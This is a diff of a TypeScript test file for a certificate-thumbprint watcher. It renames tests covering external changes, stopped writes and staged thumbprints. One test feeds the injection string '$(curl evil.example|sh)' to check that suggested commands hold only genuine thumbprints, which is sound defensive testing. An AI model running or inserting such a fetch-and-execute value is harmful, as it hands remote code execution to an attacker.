@@ -12,11 +12,11 @@ const context = (tags: Record<string, string> = {}) => ({
 });
 const TERRAFORM = { ManagedBy: 'terraform' };
 
-describe('a change of someone else', () => {
+describe('an external change', () => {
   const change = (of: Partial<Parameters<typeof externalChange>[0]>, approvals: string[] = [], tags = {}) =>
     externalChange({ added: [], removed: [], removedByOthers: [], ...of }, approvals, context(tags));
 
-  test('that adds is a warning: an added certificate can impersonate the issuer', () => {
+  test('is a warning where it adds a thumbprint, since an added certificate can impersonate the issuer', () => {
     expect(change({ added: [A], removed: [B] }, [], TERRAFORM)).toEqual({
       code: 'external-change',
       severity: 'warning',
@@ -27,7 +27,7 @@ describe('a change of someone else', () => {
     });
   });
 
-  test('that only removes is worth knowing', () => {
+  test('is information where it only removes thumbprints', () => {
     expect(change({ removed: [B] })).toEqual({
       code: 'external-change',
       severity: 'info',
@@ -36,13 +36,13 @@ describe('a change of someone else', () => {
     });
   });
 
-  test('that removes what is needed is a warning, and says so', () => {
+  test('is a warning where it removes a thumbprint that the issuer presented, and the message says so', () => {
     const finding = change({ removed: [B], removedByOthers: [B] });
     expect(finding.severity).toBe('warning');
     expect(finding.message).toContain(`The issuer presented ${B} when last looked at.`);
   });
 
-  test('that ends approvals says which, with a command for each', () => {
+  test('names the approvals that it ends, with a command for each', () => {
     const finding = change({ removed: [A, B] }, [A, B]);
     expect(finding.message).toMatch(`That ends the approval of ${A}, ${B}.`);
     expect(finding.action).toMatch(
@@ -52,10 +52,10 @@ describe('a change of someone else', () => {
   });
 });
 
-describe('writing that was stopped', () => {
+describe('the finding that writing was stopped', () => {
   const stopped = stateOf({ [A]: OURS_AND_LIVE }, { stoppedSince: ago(2 * DAY) });
 
-  test('says who keeps undoing it, what their source should say, and how to go on; commands stand by themselves', () => {
+  test('says who keeps undoing the writes, what to set in their source, and which command lets the watcher write again', () => {
     expect(writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] })).toEqual({
       code: 'writing-stopped',
       severity: 'critical',
@@ -70,7 +70,7 @@ describe('writing that was stopped', () => {
     });
   });
 
-  test('offers nothing to paste that is no thumbprint', () => {
+  test('offers only thumbprints to paste, and no command without one', () => {
     const odd = '$(curl evil.example|sh)';
     const { action, commands } = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
     expect(action.split('\n')[1]).toBe(`thumbprint_list = ["${A}"]`);
@@ -80,7 +80,7 @@ describe('writing that was stopped', () => {
     expect(alone.commands).toEqual([]);
   });
 
-  test('does without a name where the tags betray nobody', () => {
+  test('names nobody where the tags show no owner', () => {
     const { message, action } = writingStopped(stopped, { ...context(), wanted: [A] });
     expect(message).toMatch(/^Someone else keeps removing/);
     expect(action).toMatch(
@@ -89,11 +89,11 @@ describe('writing that was stopped', () => {
   });
 });
 
-describe('what was put into the list ahead of its use', () => {
+describe('a thumbprint that was pinned ahead of its use', () => {
   const staged = (days: number, of = {}) =>
     stagedUnused(stateOf({ [A]: { by: 'staged', firstSeen: ago(days * DAY), ...of } }), NOW);
 
-  test('and is live now is told, since when it stood ready', () => {
+  test('is reported when it is live, with the date since when it is in the list', () => {
     expect(stagedLive(A, ago(9 * DAY))).toMatchObject({
       code: 'staged-live',
       severity: 'info',
@@ -102,7 +102,7 @@ describe('what was put into the list ahead of its use', () => {
     });
   });
 
-  test('and nobody presents after a month is a condition', () => {
+  test('causes a condition where no host presented it for more than 30 days', () => {
     expect(staged(30)).toEqual([]);
     expect(staged(31)).toMatchObject([
       {
@@ -114,13 +114,13 @@ describe('what was put into the list ahead of its use', () => {
     ]);
   });
 
-  test('and was live once, or was put there by someone else, is none', () => {
+  test('causes no condition if it was live before, or if someone else added it', () => {
     expect(staged(31, { lastLive: ago(DAY) })).toEqual([]);
     expect(staged(31, { by: 'found' })).toEqual([]);
   });
 });
 
-test('an approval of what is pinned says how long it lasts', () => {
+test('the finding on an approval of a pinned thumbprint says how long the thumbprint stays', () => {
   expect(approvedAlready(A).message).toBe(
     `A person approved ${A}, which was pinned already. It stays until it has been live and then superseded for longer than overlapDays.`,
   );
